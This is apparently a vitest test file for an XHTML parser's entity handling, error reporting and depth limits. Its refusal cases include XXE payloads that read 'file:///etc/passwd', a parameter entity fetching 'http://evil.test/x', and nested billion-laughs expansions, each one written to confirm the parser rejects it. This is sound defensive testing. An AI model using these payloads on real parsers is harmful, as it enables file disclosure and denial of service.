import { describe, expect, it } from 'vitest';
import { NAMED_CHARACTERS } from './named-characters.ts';
import { PublicationRefusedError } from '../import-refusal.ts';
import { parseXml } from './xml-parser.ts';

function read(source: string, xmlDepth = 1000): string {
  let text = '';
  parseXml(
    source,
    'a.xhtml',
    { xmlDepth },
    {
      open: (tag) => {
        text += `<${Object.values(tag.attributes)
          .map(({ value }) => value)
          .join()}>`;
      },
      close: () => undefined,
      text: (part) => {
        text += part;
      },
    },
  );
  return text;
}

function refusal(source: string, xmlDepth?: number): PublicationRefusedError {
  try {
    read(source, xmlDepth);
  } catch (error) {
    if (error instanceof PublicationRefusedError) return error;
    throw error;
  }
  throw new Error('not refused');
}

describe('parseXml', () => {
  it('knows the named entities of XHTML and MathML', () => {
    expect(Object.values(NAMED_CHARACTERS).every((character) => [...character].length === 1)).toBe(true);
    expect(read('<a>&InvisibleTimes;&leq;&lbrace;</a>')).toBe('<>\u2062≤{');
    expect(read('<a b="&nbsp;&quot;">&mdash;&hellip;&lt;&yuml;&diams;&thetasym;&apos;&Alpha;</a>')).toBe(
      '<\u00a0">—…<ÿ♦ϑ\'Α',
    );
  });

  it.each(['&foo;', '&constructor;', '&__proto__;', '&toString;'])('does not know %s', (entity) => {
    expect(refusal(`<a>${entity}</a>`).code).toBe('malformedXml');
  });

  it.each([
    '<!DOCTYPE html>',
    '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.1//EN" "http://www.w3.org/TR/xhtml11/DTD/xhtml11.dtd">',
    '<!DOCTYPE html SYSTEM "file:///etc/passwd">',
    '<!DOCTYPE a [ <!ELEMENT a (#PCDATA)> <!ATTLIST a b CDATA "c"> ]>',
    '<!DOCTYPE a [ <!ATTLIST p id ID #IMPLIED> <!-- 100% <!ENTITY x "y"> fine --> ]>',
    '<!DOCTYPE a PUBLIC "-//[X]//" "a.dtd" [ <!ATTLIST a b CDATA "50 % > 1"> <?keep <!ENTITY?> ]>',
    "<!DOCTYPE a [ <!NOTATION gif SYSTEM 'viewer'> <!ENTITY nbsp '&#160;'> ]>",
    '<!DOCTYPE a [\n<!ELEMENT a ANY>\n]  >',
  ])('drops %s', (doctype) => {
    expect(read(`${doctype}<a>x</a>`)).toBe('<>x');
  });

  it.each([
    ['<!ENTITY copy "&#169;"><!ENTITY nbsp "&#xA0;">', 'a &copy;&nbsp;b', 'a \u00a9\u00a0b'],
    ['<!ENTITY amp "&#38;#38;">', 'a &amp; b', 'a & b'],
    ["<!ENTITY dash '&#x2014;&#x2014;'>", '&dash;', '\u2014\u2014'],
    ['<!ENTITY face "&#x1F600;">', '&face;', '\u{1f600}'],
    ['<!ENTITY less "&#60;">', '&less;b>', '<b>'],
    ['<!ENTITY author "王小明">', '&author;著', '王小明著'],
    ['<!ENTITY a "one"><!ENTITY b "&a; and &a;">', '&b;', 'one and one'],
    ['<!ENTITY b "&a;!"><!ENTITY a "one">', '&b;', 'one!'],
    ['<!ENTITY c "&copy; 2020 &mdash; R&#38;D, R&#38;#38;D, 50 %">', '&c;', '© 2020 — R&D, R&D, 50 %'],
    ['<!ENTITY x "first"><!ENTITY x "second">', '&x;', 'first'],
    ['<!ENTITY pic SYSTEM "a.gif" NDATA gif><!ENTITY far SYSTEM "far.xml">', 'unused', 'unused'],
    [`<!ENTITY a "a"><!ENTITY long "${'x'.repeat(2000)}">`, '&a;', 'a'],
    [
      '<!ENTITY % HTMLlat1 PUBLIC "-//W3C//ENTITIES Latin 1 for XHTML//EN" "lat1.ent"> %HTMLlat1;',
      '&eacute;',
      'é',
    ],
  ])('reads the text of %s', (subset, text, expected) => {
    expect(read(`<!DOCTYPE a [${subset}]><a>${text}</a>`)).toBe(`<>${expected}`);
  });

  const tens = (names: string): string =>
    [...names]
      .map((name, index) => `<!ENTITY ${name} "${(index === 0 ? 'a' : `&${names[index - 1]};`).repeat(10)}">`)
      .join('');

  it.each([
    ['<!ENTITY x "&#0;">', 'x'],
    ['<!ENTITY x "&#65;" NDATA b>', 'x'],
    ['<!ENTITY x "<b>z</b>">', 'x'],
    ['<!ENTITY x "%p;">', 'x'],
    ['<!ENTITY x "&x;">', 'x'],
    ['<!ENTITY x "&y;"><!ENTITY y "&x;">', 'x'],
    ['<!ENTITY x "&unknown;">', 'x'],
    ['<!ENTITY x "&far;"><!ENTITY far SYSTEM "far.xml">', 'x'],
    ['<!ENTITY x SYSTEM "file:///etc/passwd">', 'x'],
    ['<!ENTITY x PUBLIC "-//W3C//ENTITIES Latin 1 for XHTML//EN" "lat1.ent">', 'x'],
    ['<!ELEMENT a %b;>', undefined],
    ['<!ENTITY % p SYSTEM "http://evil.test/x"> %p;', 'p'],
    ['%p;', undefined],
    [tens('abcdex'), 'x'],
    [`<!ENTITY x "${'a'.repeat(1001)}">`, 'x'],
  ])('refuses %s', (subset, name) => {
    const error = refusal(`<?xml version="1.0"?>\n<!DOCTYPE a SYSTEM "a.dtd" [${subset}]><a>&x;</a>`);
    expect(error).toMatchObject({ code: 'entityDeclared', file: 'a.xhtml', line: 2, detail: name });
    expect(error.reason.zh).toContain('实体');
  });

  it('limits what entities add to a document, and the time that they take', () => {
    const subset = `<!DOCTYPE a [<!ENTITY x "${'a'.repeat(1000)}">]>`;
    expect(read(`${subset}<a>${'&x;'.repeat(100)}</a>`)).toHaveLength(100_002);
    expect(refusal(`${subset}<a>${'&x;'.repeat(101)}</a>`)).toMatchObject({ code: 'entityDeclared' });
    const names = Array.from({ length: 60 }, (_, index) => `e${index}`);
    const empty = names.map((name, index) => `<!ENTITY ${name} "${`&e${index - 1};`.repeat(index && 150)}">`);
    expect(read(`<!DOCTYPE a [${empty.join('')}]><a>&e59;</a>`)).toBe('<>');
  });

  it('returns the line and column of an error', () => {
    expect(refusal('<a>\n  <b></c></a>')).toMatchObject({
      code: 'malformedXml',
      file: 'a.xhtml',
      line: 2,
      column: 9,
    });
    expect(refusal('<a>').detail).toMatch(/unclosed/);
    expect(refusal('').code).toBe('malformedXml');
    expect(refusal('<a x:b="c"/>').detail).toMatch(/prefix/);
    expect(refusal('<a/><b/>').code).toBe('malformedXml');
    expect(refusal('<a b="1" b="2"/>').detail).toMatch(/duplicate/i);
  });

  it('limits the depth of elements', () => {
    expect(read('<a>'.repeat(1000) + '</a>'.repeat(1000))).toHaveLength(2000);
    expect(refusal('<a>'.repeat(1001) + '</a>'.repeat(1001)).code).toBe('tooDeep');
    expect(refusal('<a><b/></a>', 1).code).toBe('tooDeep');
  });

  it('reads XML 1.1 by the rules of 1.0, which the output uses', () => {
    expect(refusal('<?xml version="1.1"?><a>&#1;</a>').code).toBe('malformedXml');
  });
});
